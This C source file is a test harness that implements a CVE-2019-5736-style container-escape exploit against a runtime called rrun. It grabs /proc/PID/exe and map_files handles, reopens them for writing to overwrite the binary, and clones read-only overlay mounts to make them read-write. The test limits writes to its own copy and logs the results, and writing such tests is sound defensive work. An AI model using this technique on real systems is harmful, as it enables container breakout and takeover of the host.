/* rrun-exe-grabber: a CVE-2019-5736 exploit for the exe-guard tests
 * (test/integration/test_exe_guard.sh). Run as a container process with
 * every capability, it keeps scanning /proc for processes other than itself,
 * opens each /proc/PID/exe and each entry of /proc/PID/map_files O_PATH and keeps
 * one fd per distinct file, until the file STOP exists. Then it reopens each
 * kept fd that is rrun through /proc/self/fd/N for writing (as the exploit
 * does once rrun has exited) and writes to it, and writes its report to
 * REPORT:
 *   seen PID ARGV0            a process whose argv[0] ends in "rrun" was seen
 *   grab exe|map PID KIND PATH  a file kept; KIND: rrun (dev:ino TARGET, the
 *                             rrun binary), memfd, view (on an overlayfs: the
 *                             read-only view of the binary rrun re-executes
 *                             from), other (never written)
 *   write PATH ok|ERRNO       the write attempt on an rrun or memfd grab
 *   summary seen_rrun=N grabbed_rrun=N grabbed_other=N writable=N
 *
 * REPORT.ready is created after the first full scan.
 * usage: rrun-exe-grabber DEV:INO STOP REPORT
 * Only files with the dev:ino of the test's copy of rrun, memfds and views
 * are ever written: a library or program of the host it grabs is reported
 * only. A view is first cloned as a mount of its own made read-write
 * (open_tree + mount_setattr, which defeats a read-only bind), where the
 * kernel allows the clone:
 *   clone PATH read-write|ERRNO */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_GRABS 4096
#define MAX_SEEN 4096

struct grab {
  int fd;
  dev_t dev;
  ino_t ino;
  char kind[8];
  char how[4];
  int pid;
  char path[256];
};

static struct grab grabs[MAX_GRABS];
static int ngrabs;
static int seen[MAX_SEEN];
static int nseen;
static dev_t target_dev;
static ino_t target_ino;
static FILE* report;

static int is_known(dev_t dev, ino_t ino) {
  for (int i = 0; i < ngrabs; ++i)
    if (grabs[i].dev == dev && grabs[i].ino == ino) return 1;
  return 0;
}

static int is_overlay(int fd) {
  struct statfs fs;
  return fstatfs(fd, &fs) == 0 && fs.f_type == OVERLAYFS_SUPER_MAGIC;
}

static void keep(const char* link, const char* how, int pid) {
  int fd = open(link, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  struct stat st;
  if (fstat(fd, &st) < 0 || is_known(st.st_dev, st.st_ino) || ngrabs == MAX_GRABS) {
    close(fd);
    return;
  }
  struct grab* g = &grabs[ngrabs++];
  g->fd = fd;
  g->dev = st.st_dev;
  g->ino = st.st_ino;
  g->pid = pid;
  snprintf(g->how, sizeof g->how, "%s", how);
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(self, g->path, sizeof g->path - 1);
  g->path[n > 0 ? n : 0] = 0;
  if (st.st_dev == target_dev && st.st_ino == target_ino)
    strcpy(g->kind, "rrun");
  else if (strncmp(g->path, "/memfd:", 7) == 0)
    strcpy(g->kind, "memfd");
  else if (is_overlay(fd))
    strcpy(g->kind, "view");
  else
    strcpy(g->kind, "other");
}

static void note_if_rrun(int pid) {
  for (int i = 0; i < nseen; ++i)
    if (seen[i] == pid) return;
  char path[64], argv0[256];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t n = read(fd, argv0, sizeof argv0 - 1);
  close(fd);
  if (n <= 0) return;
  argv0[n] = 0;
  size_t len = strlen(argv0);
  if (len < 4 || strcmp(argv0 + len - 4, "rrun") != 0 || nseen == MAX_SEEN) return;
  seen[nseen++] = pid;
  fprintf(report, "seen %d %s\n", pid, argv0);
}

static void scan_process(int pid) {
  char path[64];
  note_if_rrun(pid);
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  keep(path, "exe", pid);
  snprintf(path, sizeof path, "/proc/%d/map_files", pid);
  DIR* d = opendir(path);
  if (!d) return;
  struct dirent* e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    char link[384];
    snprintf(link, sizeof link, "%s/%s", path, e->d_name);
    keep(link, "map", pid);
  }
  closedir(d);
}

static void scan(void) {
  DIR* d = opendir("/proc");
  if (!d) return;
  struct dirent* e;
  int self = getpid();
  while ((e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid > 0 && pid != self) scan_process(pid);
  }
  closedir(d);
}

static int try_write(const struct grab* g) {
  char self[64];
  int target = g->fd;
  if (strcmp(g->kind, "view") == 0) {
    /* A mount of its own, cloned from the view's, made read-write. */
    int tree = (int)syscall(SYS_open_tree, g->fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    struct mount_attr rw = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (tree >= 0 && syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &rw, sizeof rw) == 0) target = tree;
    fprintf(report, "clone %s %s\n", g->path, target == tree ? "read-write" : strerrorname_np(errno));
  }
  snprintf(self, sizeof self, "/proc/self/fd/%d", target);
  int fd = open(self, O_WRONLY | O_CLOEXEC);
  int ok = 0;
  if (fd >= 0) {
    static const char text[] = "#!/bin/sh\necho overwritten by rrun-exe-grabber\n";
    ok = pwrite(fd, text, sizeof text - 1, 0) == (ssize_t)(sizeof text - 1);
    if (!ok) fprintf(report, "write %s %s\n", g->path, strerrorname_np(errno));
    close(fd);
  } else {
    fprintf(report, "write %s %s\n", g->path, strerrorname_np(errno));
  }
  if (ok) fprintf(report, "write %s ok\n", g->path);
  return ok;
}

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: rrun-exe-grabber DEV:INO STOP REPORT\n");
    return 2;
  }
  unsigned long dev, ino;
  if (sscanf(argv[1], "%lu:%lu", &dev, &ino) != 2) return 2;
  target_dev = (dev_t)dev;
  target_ino = (ino_t)ino;
  struct rlimit rl;
  if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
  }
  char tmp[4096];
  snprintf(tmp, sizeof tmp, "%s.tmp", argv[3]);
  report = fopen(tmp, "w");
  if (!report) return 1;
  scan();
  char ready[4096];
  snprintf(ready, sizeof ready, "%s.ready", argv[3]);
  close(open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
  while (access(argv[2], F_OK) != 0) scan();
  int seen_rrun = nseen, rrun = 0, other = 0, writable = 0;
  for (int i = 0; i < ngrabs; ++i) {
    const struct grab* g = &grabs[i];
    fprintf(report, "grab %s %d %s %s\n", g->how, g->pid, g->kind, g->path);
    if (strcmp(g->kind, "other") == 0) {
      ++other;
      continue;
    }
    ++rrun;
    writable += try_write(g);
  }
  fprintf(report, "summary seen_rrun=%d grabbed_rrun=%d grabbed_other=%d writable=%d\n", seen_rrun, rrun, other,
          writable);
  fclose(report);
  rename(tmp, argv[3]);
  return 0;
}
